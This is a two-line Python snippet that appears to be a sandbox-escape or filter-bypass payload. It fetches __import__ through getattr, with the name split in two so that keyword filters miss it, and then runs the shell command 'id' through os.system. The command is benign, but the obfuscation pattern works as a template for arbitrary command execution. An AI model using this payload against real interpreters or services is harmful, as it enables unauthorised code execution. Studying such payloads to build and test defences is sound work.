imp = getattr(__builtins__, "__imp" + "ort__")
imp("os").system("id")
